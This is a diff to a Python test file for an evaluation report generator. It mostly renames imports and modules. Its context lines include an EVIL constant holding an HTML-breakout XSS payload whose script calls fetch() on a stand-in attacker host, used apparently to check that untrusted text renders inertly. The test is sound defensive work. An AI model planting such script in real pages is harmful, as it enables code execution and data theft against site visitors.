@@ -11,9 +11,9 @@ import pytest
 from scores import one
 
 from sem.core.example import Example
-from sem.eval import page, plots, report
-from sem.eval.answers import Answer
+from sem.eval.answers.answers import Answer
 from sem.eval.config import EvalSettings
+from sem.eval.report import plots, report, report_page
 
 EVIL = (
     "</pre></td></style><script>fetch('http://evil.example/x')</script>"
@@ -71,7 +71,7 @@ def written(folder: Path, text: str) -> Path:
     found = report.scores(made.compared, EvalSettings(draws=100))
     found |= {"strong": None, "confusions": {"t.kind": {"counts": {text: {text: 2, "B": 1}}}}}
     found["decoding"] = {"baseline": {"free": totals}, "tuned": {"free": totals}}
-    return page.write(folder, found, made)
+    return report_page.write(folder, found, made)
 
 
 class Tags(HTMLParser):
@@ -101,7 +101,7 @@ def test_a_stranger_s_text_is_inert(tmp_path):
 
 
 def test_losses_come_first_and_are_counted(tmp_path):
-    shown, counts = page.flips(reading("x"))
+    shown, counts = report_page.flips(reading("x"))
 
     assert counts == {"broken": 3, "fixed": 3, "both": 3, "right": 3}
     assert [flip.kind for flip in shown[:4]] == ["broken", "broken", "broken", "fixed"]
